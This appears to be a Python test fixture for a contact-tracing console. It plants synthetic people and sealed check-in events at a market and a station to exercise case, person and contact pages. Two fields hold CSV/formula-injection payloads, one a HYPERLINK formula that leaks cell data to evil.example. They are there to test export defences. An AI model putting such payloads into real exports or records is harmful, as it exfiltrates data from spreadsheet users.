"""A world for the cases/person/contacts pages: real events with sealed parts, stored through the collector.

Each event is made as a terminal makes it (chot.personal.Sealer to the console's seal.pub), opened
with the collector's keys (`keys.open`, as the subscriber does) and stored with `store_events`
(the subscriber's call), so the keyed indexes (person, declaration id, phone) are the ingest's own.

People (synthetic): INDEX is the case; at the market within 15 minutes of INDEX's visit: seven
verified contacts (two with formula-like names/phones, the Luca export attack), an unverified
claim, and two people sharing one phone; at the station (outside the ward officer's scope) one
contact; elsewhere, nobody's contact.
"""

from datetime import timedelta

from chot.personal import Sealer
from chotdemo.testing import make_event
from collector.storage import utcnow

INDEX = {"id_number": "079190012345", "name": "Nguyễn Văn Ân", "phone": "0912345601", "dob": "1990-01-02"}
INDEX_DECLARATION = "decl-ND-2021-000001"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
EVIL_PHONE = " @SUM(1+1)"
SHARED_PHONE = "0987654321"


def _person(i, **kw):
    p = {"id_number": f"0791900200{i:02d}", "name": f"Trần Thị Liên {i}", "phone": f"09123456{i:02d}",
         "dob": "1990-03-14", "ward": "Phường Bến Nghé"}
    p.update(kw)
    return p


MARKET = [  # (person, minutes after INDEX's market visit)
    (_person(11), 2), (_person(12), -4), (_person(13, name=EVIL_NAME), 5), (_person(14, phone=EVIL_PHONE), 7),
    (_person(15), -9), (_person(16, phone=SHARED_PHONE), 11), (_person(17, phone=SHARED_PHONE), 13),
]
CLAIM = _person(21, name="Lê Văn Khai")  # an unsigned credential near INDEX at the market
STATION = _person(31, name="Phạm Minh Ga")  # near INDEX at the station (not the ward officer's)
ELSEWHERE = _person(41, name="Võ Thị Xa")  # at the market three hours later: nobody's contact


def plant(console):
    """Store the world in the console's database; returns {"base": time of INDEX's market visit, ...}."""
    st = console.storage
    keys = st.keys
    sealer = Sealer.from_file(keys.key_dir / "seal.pub")
    base = (utcnow() - timedelta(days=1)).replace(second=0, microsecond=0)
    seqs, events = {}, []

    def add(person, cp, minutes, verified=True, credential_id=None):
        dev = f"{cp}-t1" if verified else f"{cp}-t2"
        seqs[dev] = seqs.get(dev, 0) + 1
        events.append(make_event(
            dev, seqs[dev], time=base + timedelta(minutes=minutes), checkpoint=cp, verified=verified,
            fmt="native" if verified else "plain", reason="ok" if verified else "unsigned",
            decision="PASS" if verified else "FAIL", person=person, person_id="id:" + person["id_number"],
            credential_id=credential_id or f"decl-{person['id_number']}-{seqs[dev]}", sealer=sealer,
            clock_synced=cp != "station"))

    add(INDEX, "market", 0, credential_id=INDEX_DECLARATION)
    add(INDEX, "station", 240)
    for p, minutes in MARKET:
        add(p, "market", minutes)
    add(CLAIM, "market", 6, verified=False)
    add(STATION, "station", 245)
    add(ELSEWHERE, "market", 180)
    items = [keys.open(ev) for ev in events]
    assert all(it.seal_error is None and it.opened is not None for it in items)
    with st.connection():
        res = st.store_events(items)
    assert not res.unstorable and res.inserted == len(events)
    return {"base": base, "events": events}
